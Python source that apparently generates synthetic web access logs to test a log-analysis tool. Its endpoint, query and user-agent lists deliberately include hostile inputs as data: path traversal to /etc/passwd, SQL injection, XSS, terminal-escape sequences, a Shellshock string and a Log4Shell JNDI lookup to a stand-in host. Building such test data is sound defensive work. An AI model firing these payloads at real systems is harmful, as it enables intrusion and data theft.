"""The texts of a generated access log: endpoints, addresses, user agents, query strings, as they are meant and written.

Some are hostile: what a log holds was chosen by strangers. No path has a segment that only looks like an id.
"""

import json
from collections.abc import Iterator

import polars as pl

from logcorr.generate.random_bits import mixed_number

METHODS = ("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS")

_SECTIONS = (
    *("users", "orders", "items", "carts", "invoices", "sessions", "reports", "payments", "products", "reviews"),
    *("devices", "messages", "teams", "projects", "tickets", "uploads", "addresses", "coupons", "events", "metrics"),
)
# n, x and u in braces are an id: numeric, hex, UUID.
_SHAPES = ("", "/{n}", "/search", "/{x}/history", "/{u}", "/export", "/{n}/items/{x}")

# Asked for by scanners; none holds a question mark, or is changed by stripping.
ATTACKS = (
    *(
        "/login",
        "/wp-login.php",
        "/.env",
        "/.git/config",
        "/cgi-bin/luci",
        "/actuator/heapdump",
        "http://evil.example/",
    ),
    *("/../../../../etc/passwd", "/static/%2e%2e%2f%2e%2e%2fetc/shadow", "/index.php/..;/manager/html"),
    *("/search/' OR '1'='1' --", "/search/1; DROP TABLE users", '/"quoted"/\\back\\slash', "/{curly}/[square],comma"),
    *("/<script>alert(1)</script>", "/[/bold]/[@click=app.quit]markup", "/${jndi:ldap://203.0.113.9/x}", "/%s%n%x"),
    *("/\x1b[2J\x1b[31mred\x1b[0m", "/\x1b]0;title\x07", "/nul\x00byte", "/line\r\nbreak\ttab", "/\u202egnp.exe"),
    *("/menü/crème-brûlée", "/💥/メニュー", "/zero\u200bwidth", "/\x9b31mC1", "/long/" + "Z" * 300),
)

AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 Version/18.6 Mobile Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Mobile",
    *("python-requests/2.32.5", "curl/8.17.0", "Go-http-client/2.0", "okhttp/5.3.0", "axios/1.13.2", "PostmanRuntime"),
    *("kube-probe/1.34", "Prometheus/3.7.3", "Googlebot/2.1 (+http://www.google.com/bot.html)", "bingbot/2.0"),
    *("Ünïcode/1.0 (日本語; 💡)", 'Quoted "agent" \\ with, commas', "42", "true", "padded/1.0"),
)
AGENTS_OF_ATTACKS = (
    *("sqlmap/1.9", "${jndi:ldap://203.0.113.9/a}", "() { :; }; /bin/cat /etc/passwd", "<img src=x onerror=alert(1)>"),
    *("\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "[bold red]markup[/oops]", "' UNION SELECT NULL--", "\x00"),
)
# A JSON number or true stands for its text, and blanks around a text do not count.
_WRITTEN = {"42": "42", "true": "true", "padded/1.0": '"  padded/1.0\\t"'}

_QUERIES = (
    *(
        "?page=2",
        "?page=3&sort=desc",
        "?q=caf%C3%A9",
        "?q=menü",
        "?next=/home?tab=1",
        "?",
        "?#",
        "?limit=100&fields=a,b",
    ),
    *("?id=1' OR '1'='1", "?q=<svg onload=alert(1)>", '?q="quoted"', "?file=../../etc/passwd", "?q=\x1b[31m", "  "),
)


class Words:
    """Every text by number: endpoints (with what they collapse to), addresses, user agents.

    `first` and `ids` tell for each route its first endpoint and how many ids it is asked for with; from number
    `routes` on, routes are the attacks. Columns: endpoints, collapsed, ips, agents; those that end in `_json` are
    written in a log, the path still open at its end for `query_json`, which also closes it.
    """

    def __init__(self, *, endpoints: int, ids: int, ips: int, abusers: int) -> None:
        self.routes = endpoints
        self.first: list[int] = []
        self.ids: list[int] = []
        paths: list[str] = []
        collapsed: list[str] = []
        for shape in [*map(_route, range(endpoints)), *ATTACKS]:
            found = [_path(shape, place) for place in range(ids)] if _is_open(shape) else [shape]
            self.first.append(len(paths))
            self.ids.append(len(found))
            paths += found
            collapsed += [_closed(shape)] * len(found)
        self.endpoints = pl.Series(paths)
        self.collapsed = pl.Series(collapsed)
        self.endpoints_json = pl.Series([_json(path, place)[:-1] for place, path in enumerate(paths)])
        self.queries_json = pl.Series(list(_queries(256)))
        self.ips = pl.Series([_ip(place) for place in range(ips)] + [_abuser(place) for place in range(abusers)])
        agents = (*AGENTS, *AGENTS_OF_ATTACKS)
        self.agents = pl.Series(agents)
        self.agents_json = pl.Series([_WRITTEN.get(text) or _json(text, place) for place, text in enumerate(agents)])
        self.methods = pl.Series(METHODS)


def _route(number: int) -> str:
    """The route with a number, all of them different, in an order that mixes their kinds."""
    version, rest = divmod(number, len(_SECTIONS) * len(_SHAPES))
    section, shape = divmod(rest, len(_SHAPES))
    return f"/api/v{version + 1}/{_SECTIONS[(section + 3 * shape) % len(_SECTIONS)]}{_SHAPES[shape]}"


def _is_open(shape: str) -> bool:
    return any(mark in shape for mark in ("{n}", "{x}", "{u}"))


def _path(shape: str, place: int) -> str:
    one, other = mixed_number(2 * place), mixed_number(2 * place + 1)
    word = f"{one:016x}{other:016x}"
    uuid = "-".join((word[:8], word[8:12], f"4{word[13:16]}", f"8{word[17:20]}", word[20:]))
    return shape.replace("{n}", f"{1001 + 37 * place}").replace("{x}", word[:24]).replace("{u}", uuid)


def _closed(shape: str) -> str:
    return shape.replace("{n}", "*").replace("{x}", "*").replace("{u}", "*")


def _json(text: str, place: int) -> str:
    """JSON has two ways to write what is not ASCII."""
    return json.dumps(text, ensure_ascii=place % 2 == 0)


def _queries(many: int) -> Iterator[str]:
    """The end of a path at equal steps of probability: one in eight has a query string."""
    for step in range(many):
        yield _json(_QUERIES[step // 8 % len(_QUERIES)], step // 8)[1:] if step % 8 == 0 else '"'


def _ip(place: int) -> str:
    """Different for every number up to 2^20; every eighth is an IPv6 address."""
    spread = place * 0x9E3B1 % (1 << 20)
    if place % 8 == 7:
        return f"2001:db8::{spread >> 16:x}:{spread & 0xFFFF:x}"
    return f"10.{64 + (spread >> 16)}.{spread >> 8 & 0xFF}.{spread & 0xFF}"


def _abuser(place: int) -> str:
    return f"{'203.0.113' if place < 250 else '198.51.100'}.{1 + place % 250}"
